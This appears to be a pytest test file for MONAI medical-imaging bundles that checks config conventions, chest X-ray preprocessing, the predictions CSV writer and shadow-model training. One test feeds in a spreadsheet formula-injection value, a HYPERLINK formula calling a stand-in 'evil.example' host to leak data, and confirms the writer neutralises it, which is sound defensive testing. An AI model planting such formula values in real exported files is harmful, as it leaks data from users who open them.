"""The bundles follow the MONAI model-zoo conventions (issue 16, items 12-14); offline
checks on small inputs. The bounded end-to-end runs are in tests/bundle_runs.py."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import numpy as np
import pytest
import torch
from bundle_runs import BUNDLES, dicom_radiograph
from ignite.engine import Engine
from PIL import Image

from monai_forget.data import LabelledImages
from monai_forget.handlers import PredictionWriter
from monai_forget.shadow import BundleRecipe, ShadowTrainer

CXR = BUNDLES["cxr"]


def _configs(bundle: Path) -> dict[str, dict]:
    return {p.stem: json.loads(p.read_text()) for p in (bundle / "configs").glob("*.json")}


@pytest.mark.parametrize("bundle", sorted(BUNDLES))
def test_model_zoo_files_and_properties(bundle: str) -> None:
    root = BUNDLES[bundle]
    configs = _configs(root)
    for name in ("train", "inference", "audit"):
        assert configs[name]["dataset_dir"] == "$@bundle_root + '/data'", name
        assert configs[name]["data_file"].startswith("$@dataset_dir + '/"), name
    # evaluate.json overlays train.json (run with both): it repeats none of its keys
    # except the run steps, and refers to train.json's network, loading and evaluator.
    evaluate, train = configs["evaluate"], configs["train"]
    repeated = {k for k in evaluate if k in train} - {"initialize", "run"}
    assert not repeated, repeated
    assert "network_def" not in evaluate and "loading" not in evaluate
    assert evaluate["run"] == ["$@validate#evaluator.run()"]
    # Best validation epoch, loss and TensorBoard logs, as in the model zoo.
    handlers = {h["_target_"]: h for h in train["validate"]["handlers"]}
    saver = handlers["CheckpointSaver"]
    assert (
        saver["save_key_metric"] and saver["key_metric_filename"] == "$os.path.basename(@ckpt_file)"
    )
    assert (
        train["validate"]["evaluator"]["metric_cmp_fn"] == "$lambda current, best: current >= best"
    )
    assert saver["key_metric_greater_or_equal"]  # the saver and the evaluator agree on ties
    assert "TensorBoardStatsHandler" in handlers
    assert (
        train["train"]["additional_metrics"]["train_loss"]["_target_"] == "ignite.metrics.Average"
    )
    assert not any("save_weights" in step for step in train["run"])  # no last-epoch save
    multi = configs["multi_gpu_train"]
    assert multi["network"]["_target_"] == "torch.nn.parallel.DistributedDataParallel"
    # Metadata reports what the docs report; large files and data licences are listed.
    metadata = configs["metadata"]
    assert {"accuracy", "auc"} <= set(metadata["eval_metrics"])
    assert metadata["changelog"][metadata["version"]]
    from monai.bundle import ConfigParser

    large = ConfigParser.load_config_file(root / "large_files.yml")
    assert large == {"large_files": []}  # no published weights: train them
    licence = (root / "docs" / "data_license.txt").read_text()
    assert "Licence" in licence or "Terms" in licence


def test_download_large_files_is_a_documented_no_op(tmp_path: Path) -> None:
    from monai.bundle import download_large_files

    copy = tmp_path / "cxr"
    shutil.copytree(CXR, copy, ignore=shutil.ignore_patterns("data", "models"))
    download_large_files(bundle_path=str(copy))  # nothing to fetch, and no error
    assert not (copy / "models").exists()


def test_bundles_readme_lists_the_bundles() -> None:
    text = (CXR.parent / "README.md").read_text()
    assert "will live here" not in text  # the stale placeholder is gone
    for root in BUNDLES.values():
        assert root.name in text
    for name in ("multi_gpu_train.json", "large_files.yml", "data_license.txt", "evaluate.json"):
        assert name in text


def test_bundles_readme_follows_the_configs() -> None:
    """The overview names what the configs of the current version do: the auditors'
    outputs, the evaluation's gate switches and default, and the configs' version."""
    from monai_forget.bundles.withdrawal import AUDIT_SET

    text = " ".join((CXR.parent / "README.md").read_text().split())
    for root in BUNDLES.values():
        configs = _configs(root)
        assert f"version {configs['metadata']['version']}" in text, root.name
        outputs = ["ks.json", "ema.json", "report.html", "reference.json"]
        if "[@refmodel_auditor]" in json.dumps(configs["audit"]):  # it runs first
            outputs += ["refmodel.json", AUDIT_SET, "p_member"]
        gates = [k for k in configs["evaluate"] if k.startswith("gate_")]
        assert gates and configs["evaluate"]["gate_refmodel"] is True, root.name
        missing = [name for name in outputs + gates if name not in text]
        assert not missing, f"bundles/README.md does not mention {missing} ({root.name})"
    assert "decides" in text and "reference-model audit" in text


# --- item 13: chest X-ray pixels as the model saw them --------------------------------


def _preprocessing():
    from monai.bundle import ConfigParser

    parser = ConfigParser()
    parser.read_config(CXR / "configs" / "inference.json")
    parser["bundle_root"] = str(CXR)
    return parser.get_parsed_content("preprocessing")


def test_dicom_radiograph_is_windowed_like_its_8bit_export(tmp_path: Path) -> None:
    rng = np.random.default_rng(0)
    pixels = rng.integers(0, 256, (28, 28), dtype=np.uint8)
    Image.fromarray(pixels).save(tmp_path / "xr.png")
    dicom_radiograph(pixels, tmp_path / "xr.dcm")  # 12-bit, MONOCHROME1, windowed
    preprocess = _preprocessing()
    png = preprocess({"image": str(tmp_path / "xr.png")})["image"]
    dcm = preprocess({"image": str(tmp_path / "xr.dcm")})["image"]
    assert png.shape == dcm.shape == (1, 28, 28)
    assert torch.allclose(png, dcm, atol=1e-6)
    assert float(dcm.min()) >= 0.0 and float(dcm.max()) <= 1.0


def test_16bit_image_is_refused_not_clipped(tmp_path: Path) -> None:
    wide = (np.arange(28 * 28).reshape(28, 28) * 5).astype(np.uint16)  # up to 3915
    Image.fromarray(wide).save(tmp_path / "wide.png")
    with pytest.raises(Exception) as info:
        _preprocessing()({"image": str(tmp_path / "wide.png")})
    chain, err = [], info.value
    while err is not None:
        chain.append(str(err))
        err = err.__cause__ or err.__context__
    message = next(m for m in chain if "fall outside" in m)
    assert "wide.png" in message and "0..3915" in message and "8-bit" in message


# --- item 14: predictions.csv names the image file ------------------------------------


def test_predictions_csv_has_the_image_file_and_id_columns(tmp_path: Path) -> None:
    writer = PredictionWriter(tmp_path / "predictions.csv", class_names=["normal", "pneumonia"])
    batch = [{"image_path": "/xr/a.png", "patient": "p1", "label": torch.tensor(1)},
             {"image_path": "/xr/b.png", "patient": "p2", "label": torch.tensor(0)}]  # fmt: skip
    output = [{"pred": torch.tensor([0.2, 0.8]), "label": torch.tensor(1)},
              {"pred": torch.tensor([0.9, 0.1]), "label": torch.tensor(0)}]  # fmt: skip
    engine = Engine(lambda e, b: output)  # one decollated batch of two samples
    writer.attach(engine)
    engine.run([batch], max_epochs=1)
    rows = list(csv.DictReader((tmp_path / "predictions.csv").open()))
    assert list(rows[0]) == ["image", "patient", "label", "pred", "p_normal", "p_pneumonia"]
    assert [r["image"] for r in rows] == ["/xr/a.png", "/xr/b.png"]
    assert [r["patient"] for r in rows] == ["p1", "p2"] and [r["pred"] for r in rows] == ["1", "0"]


def test_predictions_csv_neutralises_formulas_like_the_manifest(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak","x").png'
    writer = PredictionWriter(tmp_path / "predictions.csv", class_names=["normal", "pneumonia"])
    batch = [{"image_path": hostile, "patient": "@SUM(A1)", "slice": torch.tensor(-3)},
             {"image_path": "/xr/b.png", "patient": "+p2", "slice": torch.tensor(4)}]  # fmt: skip
    output = [{"pred": torch.tensor([0.25, 0.75])}, {"pred": torch.tensor([0.9, 0.1])}]
    engine = Engine(lambda e, b: output)
    writer.attach(engine)
    engine.run([batch], max_epochs=1)
    rows = list(csv.DictReader((tmp_path / "predictions.csv").open(newline="")))
    assert [r["image"] for r in rows] == ["'" + hostile, "/xr/b.png"]
    assert [r["patient"] for r in rows] == ["'@SUM(A1)", "'+p2"]
    assert [r["slice"] for r in rows] == ["-3", "4"]  # numbers stay numbers, negative too
    assert [float(r["p_pneumonia"]) for r in rows] == [0.75, 0.1]


def test_existing_output_hint_names_the_bundle_flag(tmp_path: Path) -> None:
    from monai_forget.bundles import check_outputs

    (tmp_path / "model.pt").write_bytes(b"x")
    with pytest.raises(FileExistsError, match="MONAI bundle: --overwrite True"):
        check_outputs(tmp_path / "model.pt")


# --- shadow training runs train.json's trainer, and writes nothing into the bundle -----


def test_shadow_training_writes_nothing_and_keeps_its_cache_key(
    tmp_path: Path, capsys: pytest.CaptureFixture
) -> None:
    bundle = tmp_path / "cxr"
    shutil.copytree(CXR, bundle, ignore=shutil.ignore_patterns("data", "models", "logs"))
    before = sorted(p.relative_to(bundle) for p in bundle.rglob("*"))

    def recipe() -> BundleRecipe:
        overrides = {"bundle_root": str(bundle), "epochs": 2, "steps_per_epoch": 2,
                     "batch_size": 8}  # fmt: skip
        return BundleRecipe(str(bundle / "configs" / "train.json"), overrides=overrides,
                            transform_key="train#augmentation")  # fmt: skip

    rng = np.random.default_rng(0)
    data = LabelledImages(rng.random((16, 1, 28, 28), dtype=np.float32), np.arange(16) % 2)
    model = ShadowTrainer(recipe(), cache_dir=tmp_path / "cache", progress=True).train(data)
    assert sorted(p.relative_to(bundle) for p in bundle.rglob("*")) == before  # no model, no logs
    err = capsys.readouterr().err
    assert "shadow model: training on 16 samples" in err and "trained in" in err
    # The cache key depends on the config and the overrides only: a second recipe object
    # (and a second trainer) finds the cached model.
    assert recipe().name == recipe().name
    again = ShadowTrainer(recipe(), cache_dir=tmp_path / "cache").train(data)
    for a, b in zip(model.state_dict().values(), again.state_dict().values(), strict=True):
        assert torch.equal(a, b)
